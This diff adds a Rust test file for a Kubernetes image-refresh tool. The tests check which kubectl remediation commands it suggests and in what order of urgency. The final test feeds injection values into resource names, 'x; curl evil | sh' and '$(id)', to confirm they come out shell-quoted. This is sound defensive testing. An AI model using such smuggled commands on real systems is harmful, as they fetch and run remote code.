@@ -1,0 +1,207 @@
+//! What to type next: runnable, safe to paste, and in the order of urgency.
+
+use super::*;
+use crate::observation::{Pull, Spec};
+use crate::release::Run;
+
+const INGESTOR: ManagedImage = ManagedImage::Ingestor;
+const JOBS: ManagedImage = ManagedImage::JobsManager;
+const ALL: &[Subcommand] = &[Subcommand::Doctor, Subcommand::Refresh];
+
+fn typed(site: &Site, available: &[Subcommand]) -> Vec<String> {
+    let assessed = assess_with(&site.0, available);
+    commands(&assessed).into_iter().map(str::to_owned).collect()
+}
+
+#[test]
+fn a_healthy_release_needs_nothing() {
+    for site in [
+        Site::g1(),
+        Site::g2(),
+        Site::g7(),
+        Site::g10(),
+        Site::without_refresher(),
+    ] {
+        assert_eq!(Vec::<String>::new(), typed(&site, &[]));
+        assert_eq!(Vec::<String>::new(), typed(&site, ALL));
+    }
+}
+
+#[test]
+fn what_the_refresher_will_move_is_left_to_it() {
+    let mut site = Site::g10();
+    behind(&mut site, JOBS);
+    assert_eq!(
+        vec![
+            "kubectl create job -n tracebloc --from=cronjob/berlin-image-refresh berlin-image-refresh-1780740002"
+        ],
+        typed(&site, &[])
+    );
+    assert_eq!(
+        "run the refresher now instead of in 6m58s",
+        assess(&site.0).next[0].why
+    );
+    assert_eq!(
+        vec!["kubectl tracebloc-images refresh jobs-manager -n tracebloc"],
+        typed(&site, ALL)
+    );
+    site.cron_job().active = vec!["berlin-image-refresh-29678992".to_owned()];
+    assert_eq!(
+        Vec::<String>::new(),
+        typed(&site, &[]),
+        "it is looking already"
+    );
+}
+
+#[test]
+fn what_it_will_not_move_is_moved_as_its_generation_would() {
+    let latest = digest("1db49be156bb");
+    let image = format!("docker.io/tracebloc/jobs-manager@{latest}");
+    let rows: Vec<(&str, fn() -> Site, Change, Vec<String>)> = vec![
+        ("the refresher believes that it is done, and sets digests", Site::g10, |site| {
+            site.know(OLD, BOTH);
+            site.runs(JOBS, OLD);
+        }, vec![format!("kubectl set image -n tracebloc deploy/berlin-jobs-manager api={image}")]),
+        ("and the same in the proxy", Site::g10, |site| {
+            site.know(OLD, BOTH);
+            site.runs(ManagedImage::RequestsProxy, OLD);
+        }, vec![format!("kubectl set image -n tracebloc deploy/berlin-requests-proxy proxy={image}")]),
+        ("the DaemonSet has its own namespace", Site::g10, |site| {
+            site.know(OLD, BOTH);
+            site.runs(ManagedImage::ResourceMonitor, OLD);
+        }, vec![format!(
+            "kubectl set image -n agents ds/berlin-resource-monitor tracebloc-resource-monitor=docker.io/tracebloc/resource-monitor@{}",
+            digest("c674f7ab98b3")
+        )]),
+        ("a restart pulls both", Site::g7, |site| {
+            site.know(OLD, BOTH);
+            site.runs(JOBS, OLD);
+            site.runs(ManagedImage::PodsMonitor, OLD);
+        }, vec!["kubectl rollout restart -n tracebloc deploy/berlin-jobs-manager".to_owned()]),
+        ("the environment of the ingestor", Site::g2, |site| {
+            behind(site, INGESTOR);
+            site.cron_job().run = Run::Suspended;
+        }, vec![
+            format!("kubectl set env -n tracebloc deploy/berlin-jobs-manager -c api INGESTOR_IMAGE_DIGEST={}", digest("d361fa778554")),
+            r#"kubectl patch cronjob -n tracebloc berlin-image-refresh -p '{"spec":{"suspend":false}}'"#.to_owned(),
+        ]),
+        ("nothing is recorded yet", Site::g7, |site| {
+            behind(site, JOBS);
+            let record = site.0.record.as_mut().expect("a record");
+            record.annotations.remove(JOBS.record_key().expect("a key"));
+        }, vec!["kubectl rollout restart -n tracebloc deploy/berlin-jobs-manager".to_owned()]),
+        ("a pin stays", Site::g7, |site| {
+            behind(site, JOBS);
+            site.cron_job().pinned.insert(JOBS);
+        }, vec![]),
+        ("what nobody manages stays", Site::without_refresher, |site| behind(site, JOBS), vec![]),
+        ("what is not known stays", Site::g7, |site| {
+            site.workload(JOBS).pods = Err(blind("forbidden"));
+            site.workload(JOBS).spec = Spec::Tagged { reference: tracks(JOBS), pull: Pull::Always };
+        }, vec![]),
+    ];
+    for (sentence, site, change, want) in rows {
+        let mut site = site();
+        change(&mut site);
+        assert_eq!(want, typed(&site, &[]), "{sentence}");
+    }
+}
+
+#[test]
+fn the_most_urgent_stands_first() {
+    let mut site = Site::g10();
+    site.annotate(Streak::Attempts.key(), "3");
+    site.annotate(Streak::Failures.key(), "1");
+    behind(&mut site, JOBS);
+    site.workload(JOBS).pods.as_mut().expect("pods")[0].phase = waiting("CrashLoopBackOff", "");
+    site.cron_job().run = Run::Suspended;
+    let latest = digest("1db49be156bb");
+    assert_eq!(
+        vec![
+            "kubectl describe pod -n tracebloc berlin-jobs-manager-x2k8p".to_owned(),
+            format!("kubectl set image -n tracebloc deploy/berlin-jobs-manager api=docker.io/tracebloc/jobs-manager@{latest}"),
+            "kubectl annotate -n tracebloc deploy/berlin-jobs-manager tracebloc.io/refresh-attempt- tracebloc.io/refresh-flap-detected-".to_owned(),
+            r#"kubectl patch cronjob -n tracebloc berlin-image-refresh -p '{"spec":{"suspend":false}}'"#.to_owned(),
+            "kubectl annotate -n tracebloc deploy/berlin-jobs-manager tracebloc.io/ingestor-refresh-consecutive-failures-".to_owned(),
+        ],
+        typed(&site, &[])
+    );
+    assert!(
+        typed(&site, ALL)
+            .contains(&"kubectl tracebloc-images refresh --rearm -n tracebloc".to_owned())
+    );
+}
+
+#[test]
+fn each_reason_for_a_job_that_does_not_run_has_its_look() {
+    let rows: &[(&str, Change, &str)] = &[
+        (
+            "overdue",
+            |site| site.0.at = time("2026-06-08T10:00:00Z"),
+            "kubectl describe cronjob -n tracebloc berlin-image-refresh",
+        ),
+        (
+            "stuck",
+            |site| site.0.runs = Ok(vec![active("2026-06-06T09:37:00Z", 0)]),
+            "kubectl describe job -n tracebloc berlin-image-refresh-29678977",
+        ),
+        (
+            "failing",
+            |site| {
+                site.0.runs = Ok([
+                    "2026-06-06T09:52:00Z",
+                    "2026-06-06T09:37:00Z",
+                    "2026-06-06T09:22:00Z",
+                ]
+                .map(failed)
+                .into());
+                site.cron_job().last_success = None;
+            },
+            "kubectl get events -n tracebloc --field-selector involvedObject.kind=Job",
+        ),
+        (
+            "skipping",
+            |site| site.annotate(Streak::Skips.key(), "8"),
+            "kubectl describe deploy -n tracebloc berlin-jobs-manager",
+        ),
+    ];
+    for (sentence, change, want) in rows {
+        let mut site = Site::g10();
+        change(&mut site);
+        let typed = typed(&site, &[]);
+        assert!(typed.contains(&(*want).to_owned()), "{sentence}: {typed:?}");
+    }
+}
+
+#[test]
+fn a_silent_failure_sends_to_the_log_that_tells() {
+    let mut site = Site::g1().stuck_ingestor();
+    let log = "[image-refresh] checking ghcr.io/tracebloc/ingestor:0.3 (x)\n[image-refresh]   WARN: could not resolve latest digest\n";
+    site.0.runs = Ok(vec![complete(
+        "2026-06-06T09:52:00Z",
+        RunLog::Read(log.to_owned()),
+    )]);
+    assert_eq!(
+        "kubectl logs -n tracebloc job/berlin-image-refresh-29678992",
+        typed(&site, &[])[0]
+    );
+    assert_eq!(
+        "kubectl tracebloc-images doctor -n tracebloc",
+        typed(&site, ALL)[0]
+    );
+}
+
+#[test]
+fn names_that_a_shell_would_run_are_quoted() {
+    let mut site = Site::g10();
+    site.0.release.jobs_manager = "x; curl evil | sh".to_owned();
+    site.0.release.namespace = "$(id)".to_owned();
+    site.annotate(Streak::Attempts.key(), "3");
+    behind(&mut site, JOBS);
+    let rearm = "kubectl annotate -n '$(id)' deploy/'x; curl evil | sh' tracebloc.io/refresh-attempt- tracebloc.io/refresh-flap-detected-";
+    assert!(
+        typed(&site, &[]).contains(&rearm.to_owned()),
+        "{:?}",
+        typed(&site, &[])
+    );
+}
